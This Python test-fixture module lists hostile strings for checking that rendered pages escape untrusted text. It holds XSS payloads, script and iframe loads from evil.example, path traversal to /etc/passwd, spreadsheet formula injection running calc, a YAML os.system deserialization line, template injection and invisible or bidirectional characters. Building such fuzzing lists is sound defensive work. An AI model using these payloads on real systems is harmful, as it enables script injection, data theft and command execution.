"""Texts that try to be more than text: wherever a name, a passage or a path can stand, so can each of these.

`RUN` is what each script among them would set; the pages' tests look for it (`tests/reports/test_hostile.py`).
"""

RUN = "globalThis.hacked=1"
HOSTILE: tuple[str, ...] = (
    # ends of elements that text stands in
    f"</script><script>{RUN}</script>", f"</SCRIPT ><script>{RUN}</script>", f"</script\n><script>{RUN}//",
    f"</style><script>{RUN}</script>", f"</title><script>{RUN}</script>", f"</textarea><script>{RUN}</script>",
    f"</noscript><script>{RUN}</script>", f"</td></tr></table><script>{RUN}</script>",
    f"</svg><script>{RUN}</script>", f"</template><script>{RUN}</script>",
    f"</option></select><script>{RUN}</script>", f"</xmp><script>{RUN}</script>", "<!--", "-->", "<!--<script>",
    "--!>", "<![CDATA[", "]]>", "<?xml version='1.0'?>", "<!DOCTYPE html>", "</body></html>", "<plaintext>",
    "<script", "<script>", "</script", "<", ">", "<>", "</>", "<a", "&lt;script&gt;",
    # scripts of every spelling
    f"<script>{RUN}</script>", f"<ScRiPt>{RUN}</sCrIpT>", f"<script/x>{RUN}</script>", f"<<script>{RUN}//<</script>",
    f"<script src=data:text/javascript,{RUN}></script>", f"<script type=module>{RUN}</script>",
    "<script src=https://evil.example/x.js></script>", "<script src=//evil.example/x.js>",
    f"<script\x0b>{RUN}</script>", f"<scr<script>ipt>{RUN}</scr</script>ipt>", f"<script>{RUN}",
    f"<script nonce=x>{RUN}</script>", f"<svg><script>{RUN}</script></svg>", f"<math><script>{RUN}</script></math>",
    "<script>alert(document.domain)</script>", f"\x00<script>{RUN}</script>", f"<\x00script>{RUN}</script>",
    f"<scr\x00ipt>{RUN}</script>",
    # attributes of events
    f"<img src=x onerror={RUN}>", f"<img src=x onerror='{RUN}'", f'<img src=x onerror="{RUN}">',
    f"<IMG SRC=x ONERROR={RUN}>", f"<img/src=x/onerror={RUN}>", f"<img src=x onerror\n=\n{RUN}>",
    f"<svg onload={RUN}>", f"<svg/onload={RUN}>", f"<body onload={RUN}>", f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}>", f"<details open ontoggle={RUN}>", f"<video><source onerror={RUN}>",
    f"<audio src=x onerror={RUN}>", f"<marquee onstart={RUN}>", f"<object data=x onerror={RUN}>",
    f"<a onmouseover={RUN}>x</a>", f"<div onpointerenter={RUN}>x</div>", f"<p onclick={RUN}>x</p>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>", f"<style onload={RUN}></style>",
    f"<link rel=stylesheet href=data:, onload={RUN}>", f"<iframe onload={RUN}></iframe>",
    f"<x contenteditable onblur={RUN}>", f"<form onsubmit={RUN}><button>", f"<dialog open onclose={RUN}>",
    # out of an attribute
    f'" onmouseover="{RUN}', f"' onmouseover='{RUN}", f"` onmouseover={RUN}", f'"><img src=x onerror={RUN}>',
    f"'><img src=x onerror={RUN}>", f'" autofocus onfocus="{RUN}" x="', '"', "'", "`", '">', "'>", '\\"', "\\'",
    "&quot;", f'x" style="background:url(https://evil.example)" onclick="{RUN}', "x=y", "/>", '"/>',
    # addresses
    f"javascript:{RUN}", f"JaVaScRiPt:{RUN}", f"java\nscript:{RUN}", f" javascript:{RUN}", f"javascript://%0a{RUN}",
    f"data:text/html,<script>{RUN}</script>", f"vbscript:{RUN}", f"<a href=javascript:{RUN}>x</a>",
    f'<a href="java&#10;script:{RUN}">x</a>', "https://evil.example/?q=<b>", "//evil.example", "file:///etc/passwd",
    "../../../etc/passwd", "..\\..\\windows", "%2e%2e%2f", "blob:null/x", "mailto:x@evil.example",
    "\\\\evil.example\\x",
    # elements that fetch, move or hide
    "<iframe src=https://evil.example></iframe>", f"<iframe srcdoc='<script>parent.{RUN}</script>'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>", "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>", "<img src=https://evil.example/x.png>",
    "<object data=https://evil.example>", "<embed src=https://evil.example>",
    "<form action=https://evil.example><input>", "<link rel=prefetch href=https://evil.example>",
    "<video src=https://evil.example/x>", "<frameset><frame>", "<svg><image href=https://evil.example/x.png /></svg>",
    "<svg><use href=https://evil.example/x#y /></svg>",
    f"<svg><a xlink:href=javascript:{RUN}><text>x</text></a></svg>", "<math href=https://evil.example>x</math>",
    "<picture><source srcset=https://evil.example/x>", "<portal src=https://evil.example>",
    # style
    "<style>*{display:none}</style>", "<style>@import 'https://evil.example/x.css'</style>",
    "<div style='position:fixed;inset:0;background:url(https://evil.example/x)'>", "}*{display:none}",
    "*/}body{display:none}/*", "expression(alert(1))", "url(https://evil.example/x)", "--ink: red;", "var(--alarm)",
    "</style>", "red;display:none", "@import url(https://evil.example/x.css);", "\\3c script\\3e",
    # entities
    "&lt;b&gt;", "&#60;script&#62;", "&#x3c;img src=x&#x3e;", "&amp;lt;", "&nbsp;", "&", "&&", "&notanentity;",
    "&#0;", "&#x202e;", "&lt", "&#1114112;", "\\u003cscript\\u003e", "\\x3cscript\\x3e", "%3Cscript%3E",
    "\u003cb\u003e",
    # templates and frameworks
    "{{7*7}}", "{% for x in y %}", "{# x #}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{constructor.constructor('x')()}}",
    "[[7*7]]", "{0.__class__}", "%(x)s", "%s%n", "{}", "%{text}", "%{customdata}<extra></extra>", "$y$", "$$x$$",
    "\\(x\\)", "{{ run }}", "<b>bold</b>", "<br>", "<a href='https://evil.example'>x</a>", "<sub>x</sub>",
    "<extra></extra>", "<i", "b>",
    # JSON and JavaScript
    '"}]}', "\\", "\\\\", '","x":"', "\\n", "\n", "\u2028", "\u2029", "a\u2028b", "*/", "/*", "//", "`${1}`",
    "'+alert(1)+'", f"');{RUN};('", f'");{RUN};("', "__proto__", "constructor", "toString", "hasOwnProperty", "null",
    "undefined", "NaN", "true", "[object Object]", "0", "-0", "1e309", "-1", "Infinity", "prototype",
    # tables for spreadsheets
    "=1+1", "=HYPERLINK(\"https://evil.example\",\"x\")", "+1+1", "-1+1", "@SUM(1)", "=cmd|' /C calc'!A0", "\t=1+1",
    "\r=1+1", 'a,b', 'a"b', "a;b", "a\tb", "a\r\nb", ";=1",
    # Markdown and YAML
    "[x](javascript:alert(1))", "![x](https://evil.example/x.png)", "# x", "---", "...", "- x", "a: b", "|", "> x",
    "*x*", "~~~", "!!python/object/apply:os.system [id]", "&a [*a]", "%YAML 1.1", "- - -", "? x", "``` x",
    "<https://evil.example>",
    # what cannot be seen, or turns the line round
    "\u202egnp.exe", "\u202dabc\u202c", "\u2067abc", "\u2066a\u2069", "\u200fabc", "\u200b", "a\u200bb", "\ufeffx",
    "\u00ad", "\u061cx", "\u202e<img src=x>", "\x00", "a\x00b", "\x00\x00", "\x01", "\x07\x08", "\x1b[31mred\x1b[0m",
    "\x7f", "\x85", "\x9b31m", "\ufffe", "\ufffd", " ", "  x  ", "\u00a0", "\u3000", "\r", "a\rb", "\x0c", "\x0b",
    # letters
    "ŤĥéŦ", "مرحبا", "שלום", "漢字" * 40, "👩‍⚕️🏳️‍🌈", "z\u0300\u0301\u0302\u0303" * 30, "İıſK", "ﷺ" * 40, "\U0001d4d0",
    "e\u0301", "＜script＞", "‹script›", "\u0130mg", "ſcript",
    # sizes
    "x" * 10_000, "word " * 2_000, "<" * 500, "&" * 500, "]" * 300, "{" * 300, "\u202e" * 50,
    "a" * 300 + " " + "b" * 300,
)  # fmt: skip
